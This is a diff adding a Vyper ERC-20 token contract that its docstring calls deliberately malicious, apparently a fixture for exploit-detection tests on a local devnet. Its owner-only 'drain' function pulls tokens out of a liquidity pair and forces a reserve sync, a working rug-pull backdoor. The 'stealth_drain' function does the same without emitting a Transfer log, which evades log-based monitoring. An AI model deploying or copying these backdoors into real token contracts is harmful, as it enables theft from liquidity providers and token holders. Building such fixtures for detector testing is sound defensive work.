@@ -1,0 +1,90 @@
+# pragma version ~=0.4.3
+"""
+@title Drain token (a deliberately malicious ERC-20 for exploit-detection tests)
+@notice Behaves like a plain ERC-20, except that its owner may take tokens out of any holder's
+        balance (typically a Uniswap V2 pair) and then call the pair's ``sync()`` so the pair's
+        reserves follow its shrunken balance.  ``drain`` logs the move as a Transfer (the common
+        rug); ``stealth_drain`` moves the balance without any log (a token whose balance changes
+        do not match its Transfer logs).  Never deploy this anywhere but a local devnet.
+"""
+
+interface Pair:
+    def sync(): nonpayable
+
+event Transfer:
+    sender: indexed(address)
+    receiver: indexed(address)
+    value: uint256
+
+event Approval:
+    owner: indexed(address)
+    spender: indexed(address)
+    value: uint256
+
+name: public(String[32])
+symbol: public(String[16])
+decimals: public(uint8)
+totalSupply: public(uint256)
+balanceOf: public(HashMap[address, uint256])
+allowance: public(HashMap[address, HashMap[address, uint256]])
+owner: public(address)
+
+
+@deploy
+def __init__(supply: uint256):
+    self.name = "Drain Token"
+    self.symbol = "DRAIN"
+    self.decimals = 18
+    self.owner = msg.sender
+    self.totalSupply = supply
+    self.balanceOf[msg.sender] = supply
+    log Transfer(sender=empty(address), receiver=msg.sender, value=supply)
+
+
+@internal
+def _move(sender: address, receiver: address, amount: uint256):
+    assert self.balanceOf[sender] >= amount, "DRAIN: insufficient balance"
+    self.balanceOf[sender] -= amount
+    self.balanceOf[receiver] += amount
+
+
+@external
+def transfer(receiver: address, amount: uint256) -> bool:
+    self._move(msg.sender, receiver, amount)
+    log Transfer(sender=msg.sender, receiver=receiver, value=amount)
+    return True
+
+
+@external
+def transferFrom(owner_: address, receiver: address, amount: uint256) -> bool:
+    allowed: uint256 = self.allowance[owner_][msg.sender]
+    if allowed != max_value(uint256):
+        assert allowed >= amount, "DRAIN: insufficient allowance"
+        self.allowance[owner_][msg.sender] = allowed - amount
+    self._move(owner_, receiver, amount)
+    log Transfer(sender=owner_, receiver=receiver, value=amount)
+    return True
+
+
+@external
+def approve(spender: address, amount: uint256) -> bool:
+    self.allowance[msg.sender][spender] = amount
+    log Approval(owner=msg.sender, spender=spender, value=amount)
+    return True
+
+
+@external
+def drain(pair: address, amount: uint256):
+    """Take ``amount`` out of ``pair`` (logged as a Transfer), then make the pair sync."""
+    assert msg.sender == self.owner, "DRAIN: only the owner"
+    self._move(pair, msg.sender, amount)
+    log Transfer(sender=pair, receiver=msg.sender, value=amount)
+    extcall Pair(pair).sync()
+
+
+@external
+def stealth_drain(pair: address, amount: uint256):
+    """Take ``amount`` out of ``pair`` without any Transfer log, then make the pair sync."""
+    assert msg.sender == self.owner, "DRAIN: only the owner"
+    self._move(pair, msg.sender, amount)
+    extcall Pair(pair).sync()
